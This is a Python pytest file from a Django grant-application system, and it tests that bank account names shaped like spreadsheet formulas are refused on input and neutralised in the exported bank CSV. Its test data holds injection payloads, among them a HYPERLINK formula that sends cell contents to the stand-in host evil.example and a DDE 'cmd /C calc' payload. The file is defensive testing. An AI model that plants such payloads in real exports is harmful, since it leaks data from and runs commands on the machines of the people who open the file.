"""Formula injection into the bank file (issue 14, finding 2): an account name a spreadsheet would run as a
formula is refused on every way in (the application form service shared by the page, the window and the API)
and, if one is already stored, the bank file neutralises it."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from datetime import datetime, time
from typing import Any

import pytest
import time_machine
from django.utils import translation

from onego.accounts.models import User
from onego.cases import services as case_services
from onego.cases.models import Case
from onego.cases.tests.factories import PDF, PNG
from onego.policies import payouts
from onego.policies.models import Payment, Policy
from onego.policies.tests import factories
from onego.policies.tests.factories import to_payment

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'


def application(bank_account_name: str) -> tuple[User, str, dict[str, Any], list[Any]]:
    policy = Policy.objects.get(code="enterprise-growth")
    assert policy.item is not None
    enterprise = User.objects.get(username="enterprise")
    target = case_services.resolve_target(item_code=policy.item.code)
    uploads = [
        case_services.UploadedMaterial(key, PDF, f"{key}.pdf")
        for key in case_services.uploads_needed(target, enterprise)
    ]
    form = {
        "last_year_revenue": "30000000",
        "revenue_growth_rate": "25",
        "bank_account_name": bank_account_name,
        "bank_name": "中国工商银行",
        "bank_account_number": "3602000109200123456",
        "handler_name": "李娜",
        "handler_phone": "13800201234",
    }
    return enterprise, policy.item.code, form, uploads


@pytest.mark.parametrize(
    "name", [HYPERLINK, "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3", "＝1+1", "＠SUM(1)", "  =1+1"]
)
def test_a_formula_like_account_name_on_the_application_form_is_refused_and_nothing_is_written(demo, name):
    enterprise, code, form, uploads = application(name)
    with translation.override("zh-hans"), pytest.raises(case_services.ApplicationInvalid) as refused:
        case_services.submit_application(
            applicant=enterprise, item_code=code, form_data=form, uploads=uploads, signature_png=PNG
        )
    assert "不能以 = + - @ 等符号开头" in refused.value.errors["bank_account_name"]
    assert not Case.objects.exists()


def test_the_api_refuses_a_formula_like_account_name_with_a_code_in_english_when_chosen(demo, client):
    enterprise, code, form, _ = application(HYPERLINK)
    client.force_login(enterprise)
    with translation.override("zh-hans"):  # the middleware's choice of English ends with the block
        response = client.post(
            "/api/v1/cases",
            {"item_code": code, "form_data": form},
            content_type="application/json",
            HTTP_ACCEPT_LANGUAGE="en",
        )
    assert response.status_code == 422
    body = response.json()
    assert body["code"] == "application_invalid"
    assert "Must not start with = + - @ or a similar sign" in body["errors"]["bank_account_name"]
    assert not Case.objects.exists()


def test_an_ordinary_account_name_still_goes_through(demo):
    enterprise, code, form, uploads = application("广州市白云区云味餐饮有限公司")
    cases = case_services.submit_application(
        applicant=enterprise, item_code=code, form_data=form, uploads=uploads, signature_png=PNG
    )
    assert cases[0].form_data["bank_account_name"] == "广州市白云区云味餐饮有限公司"


@pytest.fixture
def world(demo: Any) -> Iterator[factories.StaffWorld]:
    with time_machine.travel(datetime.combine(factories.ON, time(10, 0), tzinfo=factories.CST), tick=True):
        yield factories.staff_world()


def test_the_bank_file_neutralises_a_formula_stored_before_the_input_check(world):
    to_payment(world)
    officer = world.officer
    # a payment written before the check existed (or by a path that bypassed it)
    Payment.objects.update(bank_account_name=HYPERLINK, bank_name="＠SUM(1)")
    batch = payouts.create_batch(policy=world.policy, period="2026", actor=officer)
    payouts.approve_batch(batch.pk, actor=officer)

    _, content = payouts.bank_file(batch.pk, actor=officer)
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))

    assert rows[1][1] == "'" + HYPERLINK
    assert rows[1][3] == "'＠SUM(1)"
    assert rows[1][2] == "3602000109200123456" and rows[1][4] == "100000.00"
